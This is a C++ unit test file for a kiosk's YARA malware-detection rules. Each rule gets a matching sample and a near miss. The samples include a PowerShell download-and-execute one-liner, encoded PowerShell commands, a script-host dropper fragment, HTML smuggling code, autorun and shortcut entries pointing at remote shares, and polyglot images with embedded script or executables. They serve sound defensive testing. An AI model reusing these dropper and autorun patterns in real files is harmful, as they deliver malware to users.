// SPDX-License-Identifier: MIT
// Each rule that comes with the station: a file that it finds, and one that is nearly that and may
// be on anybody's stick.
#include "kiosk/broker/ask/yara.h"
#include "kiosk/core/base/memory_file.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <gtest/gtest.h>
#include <regex>
#include <set>

using policy::ScanState;

static const std::string shipped_rules = SEKISHO_SOURCE "/scanners/yara/rules";

struct Case {
    std::string rule; // "file:rule"
    std::string hit;
    std::string near_miss;
};

static std::string wide(const std::string& text)
{
    std::string result = "\xFF\xFE";
    for (char c : text)
        result += std::string { c, '\0' };
    return result;
}

static std::vector<Case> cases()
{
    const std::string gif = "GIF89a", jpeg = "\xFF\xD8\xFF\xE0", png = "\x89PNG\r\n\x1A\n";
    const std::string dos = "This program cannot be run in DOS mode";
    const std::string base64(64, 'A');
    return {
        { "autorun:autorun_inf", "[AutoRun]\r\nopen=setup.exe\r\n",
            "The section [autorun] holds a line that says open=setup.exe.\n" },
        { "autorun:autorun_inf", wide("[autorun]\r\nicon=x\r\nshell\\install\\command=x.exe\r\n"),
            wide("[autorun]\r\nicon=x\r\n") },
        { "autorun:shell_command_file", "[Shell]\r\nCommand=2\r\nIconFile=\\\\server\\x.ico\r\n",
            "[Shell]\r\nCommand=2\r\nIconFile=explorer.exe,3\r\n" },
        { "autorun:internet_shortcut_to_file", "[InternetShortcut]\nURL=file://server/share",
            "[InternetShortcut]\nURL=https://www.example.jp/" },
        { "autorun:desktop_ini_with_remote_icon",
            "[.ShellClassInfo]\r\nIconResource=\\\\server\\x,0\r\n",
            "[.ShellClassInfo]\r\nIconResource=C:\\x,0\r\n" },
        { "autorun:desktop_ini_with_remote_icon",
            wide("[.ShellClassInfo]\r\nIconFile = \\\\server\\x\r\n"),
            wide("[.ShellClassInfo]\r\nIconFile = x\r\n") },
        { "autorun:internet_shortcut_to_file", wide("[InternetShortcut]\r\nURL=\\\\server\\x\r\n"),
            wide("[InternetShortcut]\r\nURL=http://server/x\r\n") },
        { "autorun:windows_shortcut", std::string("L\0\0\0\x01\x14\x02\0", 8),
            std::string("L\0\0\0\x01\x14\x03\0", 8) },
        { "autorun:search_or_library_connector",
            "<?xml version='1.0'?><libraryDescription xmlns='x'/>",
            "<?xml version='1.0'?><library><description/></library>" },
        { "droppers:powershell_download_and_run",
            "IEX (New-Object Net.WebClient).DownloadString('http://x')",
            "The function DownloadString of the manual, page 3. Invoke it from the menu." },
        { "droppers:powershell_encoded_command", "powershell.exe -nop -enc " + base64,
            "powershell.exe -nop -encoding utf8 -file report.ps1" },
        { "droppers:script_host_writes_program",
            "CreateObject(\"WScript.Shell\") CreateObject(\"ADODB.Stream\") s.SaveToFile x",
            "CreateObject(\"WScript.Shell\") and CreateObject(\"ADODB.Stream\")" },
        { "droppers:html_smuggling",
            "b = new Blob([x]); a.href = URL.createObjectURL(b); a.download = 'x'",
            "b = new Blob([x]); image.src = URL.createObjectURL(b);" },
        { "droppers:harmless_test_rule", "SEKISHO-HARMLESS-YARA-TEST-8c1e77d4",
            "SEKISHO-HARMLESS-YARA-TEST-8c1e77d5" },
        { "polyglots:pdf_in_something_else", gif + "....%PDF-1.4", "PK\x03\x04....a.pdf%PDF-1.4" },
        { "polyglots:pdf_in_something_else", jpeg + std::string(1020, ' ') + "%PDF-1.4",
            jpeg + std::string(1021, ' ') + "%PDF-1.4" },
        { "polyglots:image_with_archive_behind", png + "....PK\x05\x06" + std::string(18, '\0'),
            png + "....PK\x05\x07" + std::string(18, '\0') },
        { "polyglots:image_with_script_inside", gif + "....<script>alert(1)</script>",
            gif + std::string(4096, ' ') + "<script>" },
        { "polyglots:image_with_script_inside", "BM......<?php x", "BM......<?xpacket x" },
        { "polyglots:program_inside_picture", jpeg + "MZ" + dos,
            "MZ is what it begins with: " + dos },
    };
}

static policy::ScanFacts scan(const std::string& bytes)
{
    static broker::Workers workers(SEKISHO_LIBEXEC, { { "scanners-yara", { shipped_rules } } });
    auto file = base::sealed_memory_file("input", base::view_of(bytes)).take();
    return broker::ask_yara(workers, {}, file);
}

TEST(ShippedRules, FindWhatTheyNameAndNotItsNeighbour)
{
    for (const auto& one : cases()) {
        auto hit = scan(one.hit);
        EXPECT_EQ(hit.state, ScanState::Found) << one.rule << " " << hit.detail;
        EXPECT_EQ(std::ranges::count(hit.findings, one.rule), 1) << one.rule;
        auto near_miss = scan(one.near_miss);
        EXPECT_EQ(near_miss.state, ScanState::Clean) << one.rule << " " << near_miss.detail;
    }
}

TEST(ShippedRules, AreAllTested)
{
    std::set<std::string> tested, shipped;
    for (const auto& one : cases())
        tested.insert(one.rule);
    for (const auto& file : std::filesystem::directory_iterator(shipped_rules)) {
        std::ifstream stream(file.path());
        for (std::string line; std::getline(stream, line);) {
            std::smatch name;
            if (std::regex_match(line, name, std::regex("rule ([a-z_0-9]+).*")))
                shipped.insert(file.path().stem().string() + ":" + name[1].str());
        }
    }
    EXPECT_EQ(tested, shipped);
    EXPECT_GE(shipped.size(), 15u);
}
